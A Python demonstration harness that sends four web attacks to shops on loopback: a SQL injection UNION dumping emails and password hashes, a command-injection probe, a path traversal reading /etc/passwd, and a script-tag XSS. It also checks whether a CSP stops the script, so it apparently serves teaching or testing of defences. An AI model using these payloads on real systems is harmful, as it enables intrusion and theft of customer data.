"""A few attacks over HTTP on loopback, to be seen with one's own eyes: what each shop answers to them."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

import httpx2


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """One request, and what its answer shows."""

    name: str
    path: str
    query: dict[str, str]
    gives_away: Callable[[str], bool]
    """Whether the text of an answer shows that it worked."""
    loot: str
    """What the attacker has then."""


ATTACKS = (
    Attack(
        name="SQL injection in the search",
        path="/search",
        query={"size": "' UNION SELECT id, email || ' ' || password, 1, 2, 3, 4, 5, 6, 7, 8 FROM users --"},
        gives_away=lambda text: "grace@" in text,
        loot="customers' addresses and password hashes",
    ),
    Attack(
        name="Command injection in the label printer",
        path="/shipping/label",
        query={"text": "$(echo $((6*7))-$((9*9)))"},
        gives_away=lambda text: "42-81" in text,
        loot="a shell on the server",
    ),
    Attack(
        name="Path traversal in the invoice download",
        path="/invoice",
        query={"file": "../../../../../../../../etc/passwd"},
        gives_away=lambda text: "root:" in text,
        loot="any file of the server",
    ),
    Attack(
        name="Script in the search box",
        path="/search",
        query={"q": "<script>steal()</script>"},
        gives_away=lambda text: "<script>steal()</script>" in text,
        loot="a script in the visitor's page",
    ),
)


def outcome(base: str, attack: Attack) -> tuple[bool, str]:
    """Whether the attack worked on the shop at that address, and the answer in a few words."""
    answer = httpx2.get(base + attack.path, params=attack.query, timeout=10)
    if not attack.gives_away(answer.text):
        return False, f"{answer.status_code} {answer.reason_phrase}".strip()
    policy = answer.headers.get("content-security-policy", "")
    if "<script>" in attack.query.get("q", "") and "script-src" in policy and "'unsafe-inline'" not in policy:
        return False, "in the page, but the policy keeps it from running"
    return True, f"{answer.status_code}: {attack.loot}"
